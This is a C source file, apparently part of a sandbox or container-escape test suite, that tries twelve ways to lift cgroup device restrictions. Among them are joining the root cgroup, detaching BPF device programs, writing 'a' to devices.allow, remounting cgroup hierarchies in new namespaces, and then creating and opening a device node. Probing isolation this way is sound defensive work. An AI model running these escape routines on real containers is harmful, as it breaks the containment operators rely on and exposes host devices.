// SPDX-License-Identifier: Apache-2.0
// Leaving the cgroup, or taking its device rules away. Where the process is in no group of its own
// these come down to a plain open.
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/mount.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

static bool write_to(const char* folder, const char* file, const char* text) {
  char path[600];
  snprintf(path, sizeof path, "%s/%s", folder, file);
  const int fd = open(path, O_WRONLY);
  if (fd < 0) return false;
  const bool done = write(fd, text, strlen(text)) == (ssize_t)strlen(text);
  close(fd);
  return done;
}

// The first mount of a type with an option, from /proc/self/mounts.
static bool find_mount(const char* type, const char* option, char folder[256]) {
  FILE* file = fopen("/proc/self/mounts", "r");
  if (file == NULL) return false;
  char source[256];
  char found_type[64];
  char options[512];
  bool found = false;
  while (!found &&
         fscanf(file, "%255s %255s %63s %511s %*d %*d", source, folder, found_type, options) == 4)
    found = strcmp(found_type, type) == 0 && (option == NULL || strstr(options, option) != NULL);
  fclose(file);
  return found;
}

// Where the process is in that hierarchy: "/corral-1-2".
static void own_group(const char* prefix, char group[256]) {
  char line[512];
  group[0] = '\0';
  FILE* file = fopen("/proc/self/cgroup", "r");
  while (file != NULL && fgets(line, sizeof line, file) != NULL) {
    char* at = strstr(line, prefix);
    if (at == NULL) continue;
    snprintf(group, 256, "%s", at + strlen(prefix));
    group[strcspn(group, "\n")] = '\0';
    break;
  }
  if (file != NULL) fclose(file);
}

static Outcome leave_by(const char* folder, const char* path) {
  return write_to(folder, "cgroup.procs", "0") ? try_every_mode(path) : kRefused;
}
static Outcome cg2_leave(const char* path) {
  char folder[256];
  return find_mount("cgroup2", NULL, folder) ? leave_by(folder, path) : kAbsent;
}
static Outcome cg1_leave(const char* path) {
  char folder[256];
  return find_mount("cgroup", "devices", folder) ? leave_by(folder, path) : kAbsent;
}
static Outcome leave_all_then_mknod(const char* path) {
  cg2_leave(path);
  cg1_leave(path);
  unsigned want_major = 0;
  unsigned want_minor = 0;
  sscanf(getenv("ESCAPE_NODE"), "%u:%u", &want_major, &want_minor);
  const char* node = in_tmp("chain");
  if (mknod(node, S_IFCHR | 0666, makedev(want_major, want_minor)) != 0) return kRefused;
  return try_every_mode(node);
}
static Outcome userns_then_leave(const char* path) {
  if (unshare(CLONE_NEWUSER) != 0) return kAbsent;
  return cg2_leave(path) == kOpen || cg1_leave(path) == kOpen ? kOpen : kRefused;
}
static Outcome cgroupns_then_leave(const char* path) {
  if (unshare(CLONE_NEWCGROUP) != 0) return kRefused;
  return cg2_leave(path) == kOpen || cg1_leave(path) == kOpen ? kOpen : kRefused;
}

static Outcome new_mount(const char* type, const char* option, const char* path) {
  const char* folder = in_tmp(type);
  mkdir(folder, 0755);
  if (unshare(CLONE_NEWNS) != 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
      mount(type, folder, type, 0, option) != 0)
    return kRefused;
  return leave_by(folder, path);
}
static Outcome cg2_newmount(const char* path) { return new_mount("cgroup2", NULL, path); }
static Outcome cg1_newmount(const char* path) {
  char folder[256];
  return find_mount("cgroup", "devices", folder) ? new_mount("cgroup", "devices", path) : kAbsent;
}
static Outcome cg2_fsmount(const char* path) {
  const int context = (int)syscall(SYS_fsopen, "cgroup2", 0);
  if (context < 0 || syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0) != 0)
    return kRefused;
  const int tree = (int)syscall(SYS_fsmount, context, 0, 0);
  const int procs = tree < 0 ? -1 : openat(tree, "cgroup.procs", O_WRONLY);
  if (procs < 0 || write(procs, "0", 1) != 1) return kRefused;
  return try_every_mode(path);
}

static Outcome cg2_clone_into(const char* path) {
  char folder[256];
  if (!find_mount("cgroup2", NULL, folder)) return kAbsent;
  const int group = open(folder, O_RDONLY | O_DIRECTORY);
  if (group < 0) return kRefused;
  struct clone_args arguments = {
      .flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD, .cgroup = (uint64_t)group};
  const pid_t pid = (pid_t)syscall(SYS_clone3, &arguments, sizeof arguments);
  if (pid < 0) return kRefused;
  if (pid == 0) _exit(try_every_mode(path));
  int status = 0;
  if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status)) return kBroken;
  return WEXITSTATUS(status);
}

static long bpf(int command, union bpf_attr* attributes) {
  return syscall(SYS_bpf, command, attributes, sizeof *attributes);
}

// Takes every device program off our own group.
static Outcome cg2_bpf_detach(const char* path) {
  char folder[256];
  char group[256];
  char own[600];
  if (!find_mount("cgroup2", NULL, folder)) return kAbsent;
  own_group("0::", group);
  snprintf(own, sizeof own, "%s%s", folder, group);
  const int fd = open(own, O_RDONLY | O_DIRECTORY);
  if (fd < 0) return kRefused;
  uint32_t ids[64];
  union bpf_attr query = {.query = {.target_fd = (uint32_t)fd,
                                    .attach_type = BPF_CGROUP_DEVICE,
                                    .prog_ids = (uint64_t)(uintptr_t)ids,
                                    .prog_cnt = 64}};
  if (bpf(BPF_PROG_QUERY, &query) != 0) return kRefused;
  for (uint32_t i = 0; i < query.query.prog_cnt; ++i) {
    union bpf_attr get = {.prog_id = ids[i]};
    const int program = (int)bpf(BPF_PROG_GET_FD_BY_ID, &get);
    if (program < 0) return kRefused;
    union bpf_attr detach = {.target_fd = (uint32_t)fd,
                             .attach_bpf_fd = (uint32_t)program,
                             .attach_type = BPF_CGROUP_DEVICE};
    if (bpf(BPF_PROG_DETACH, &detach) != 0) return kRefused;
  }
  return try_every_mode(path);
}

static Outcome cg1_allow(const char* path) {
  char folder[256];
  char group[256];
  char own[600];
  if (!find_mount("cgroup", "devices", folder)) return kAbsent;
  own_group(":devices:", group);
  snprintf(own, sizeof own, "%s%s", folder, group);
  return write_to(own, "devices.allow", "a") ? try_every_mode(path) : kRefused;
}

// A group below our own, whose rules might be looser.
static Outcome cg2_child(const char* path) {
  char folder[256];
  char group[256];
  char child[600];
  if (!find_mount("cgroup2", NULL, folder)) return kAbsent;
  own_group("0::", group);
  snprintf(child, sizeof child, "%s%s/escape-child", folder, group);
  if (mkdir(child, 0755) != 0) return kRefused;
  const pid_t pid = fork();
  if (pid == 0) _exit(leave_by(child, path));
  int status = 0;
  waitpid(pid, &status, 0);
  for (int i = 0; i < 50 && rmdir(child) != 0; ++i) usleep(2000);
  return WIFEXITED(status) ? WEXITSTATUS(status) : kBroken;
}

const Way kCgroupWays[] = {
    {"cg2_leave", cg2_leave},
    {"cg1_leave", cg1_leave},
    {"leave_then_mknod", leave_all_then_mknod},
    {"userns_then_leave", userns_then_leave},
    {"cgroupns_then_leave", cgroupns_then_leave},
    {"cg2_newmount", cg2_newmount},
    {"cg1_newmount", cg1_newmount},
    {"cg2_fsmount", cg2_fsmount},
    {"cg2_clone_into", cg2_clone_into},
    {"cg2_bpf_detach", cg2_bpf_detach},
    {"cg2_child", cg2_child},
    {"cg1_allow", cg1_allow},
    {NULL, NULL},
};
